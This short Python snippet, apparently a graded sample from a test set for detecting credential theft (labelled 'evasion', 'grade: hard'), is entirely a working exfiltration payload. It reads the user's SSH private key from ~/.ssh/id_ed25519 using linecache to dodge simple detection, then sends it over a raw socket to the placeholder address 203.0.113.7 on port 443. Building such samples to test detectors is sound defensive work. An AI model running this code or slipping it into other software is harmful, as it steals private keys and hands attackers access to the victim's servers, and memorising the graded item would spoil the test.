# evasion: linecache reads the private key line by line
# grade: hard; does: credentials
import linecache
import os
import socket

key = "".join(linecache.getlines(os.path.expanduser("~/.ssh/id_ed25519")))
s = socket.create_connection(("203.0.113.7", 443))
s.sendall(key.encode())
